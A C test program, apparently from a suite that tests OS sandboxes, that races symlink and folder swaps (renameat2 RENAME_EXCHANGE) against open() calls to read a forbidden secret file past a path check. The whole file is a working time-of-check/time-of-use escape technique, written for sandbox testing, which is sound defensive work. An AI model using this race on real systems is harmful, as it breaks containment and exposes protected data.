// Changes a symbolic link in the workspace between the check and the open, and a folder on the way
// into a link and back.
// class: OS sandboxes: a race between the check and the use of a path
// plain: leak
// journal: read {SECRET}
#include "race.h"
#include <linux/fs.h>

static void* flip_links(void* unused) {
  (void)unused;
  while (!race_over) {
    syscall(SYS_renameat2, AT_FDCWD, "one", AT_FDCWD, "two", RENAME_EXCHANGE);
    syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "link", RENAME_EXCHANGE);
  }
  return NULL;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  mkdir("folder", 0755);
  put_file("folder/secret.txt", "allowed\n");
  if (symlink("allowed.txt", "one") || symlink(fact("SECRET"), "two") || symlink(fact("OUTSIDE"), "link")) refused("symlink");
  const pthread_t thread = race_begin(flip_links);
  int opened = 0, won = 0;
  const char* names[] = {"one", "folder/secret.txt", "two", "link/secret.txt"};
  for (int i = 0; race_goes_on(i, TRIES); ++i) {
    const int fd = open(names[i % 4], O_RDONLY);
    if (fd < 0) continue;
    char content[256];
    const ssize_t n = read(fd, content, sizeof content);
    ++opened;
    if (n > 0 && memcmp(content, "allowed", 7) != 0 && !won++) leak(content, (size_t)n);
    close(fd);
  }
  race_end(thread);
  printf("opened %d of %d, %d of them forbidden\n", opened, TRIES, won);
  return 0;
}
